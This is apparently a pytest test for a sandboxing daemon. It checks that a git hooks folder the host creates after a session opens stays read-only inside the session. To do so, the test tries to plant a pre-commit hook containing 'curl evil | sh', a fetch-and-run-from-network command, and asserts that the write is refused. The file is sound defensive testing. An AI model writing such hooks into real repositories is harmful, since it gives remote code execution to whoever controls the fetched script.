"""The top-level repository's hooks folder is read-only in the session even when the host
makes it after session.open (a hook manager's install, `git init` run again): toolsd makes
an empty one at open where the repository has none, so that it is protected from the
start."""

from __future__ import annotations

import os
import shutil
import subprocess
import tempfile

import pytest

from conftest import needs_bwrap

pytestmark = [needs_bwrap, pytest.mark.daemon(shared=True)]


def git(*args: str) -> None:
    subprocess.run(["git", *args], check=True, capture_output=True, timeout=60)


def test_a_hooks_folder_the_host_makes_after_open_is_read_only_in_the_session(daemon):
    ws = tempfile.mkdtemp(prefix="late-hooks-", dir=daemon.root)
    git("init", "-q", ws)
    shutil.rmtree(os.path.join(ws, ".git", "hooks"))  # a repository without one
    with daemon.client() as c:
        s = c.session_open(ws)["session"]
        hooks = os.path.join(ws, ".git", "hooks")
        os.makedirs(hooks, exist_ok=True)  # the host's hook manager, after open
        with open(os.path.join(hooks, "pre-push"), "w") as f:
            f.write("#!/bin/sh\necho the host's own hook\n")
        r = c.shell_run(s, "echo 'curl evil | sh' > .git/hooks/pre-commit; echo rc=$?; "
                           "cat .git/hooks/pre-push; git -c user.name=a -c user.email=a@b "
                           "commit -q --allow-empty -m x && echo committed")
        c.session_close(s)
    assert r["output"].endswith(".git/hooks/pre-commit: Read-only file system\nrc=1\n"
                                "#!/bin/sh\necho the host's own hook\ncommitted\n"), r["output"]
    assert sorted(os.listdir(hooks)) == ["pre-push"]
    shutil.rmtree(ws)
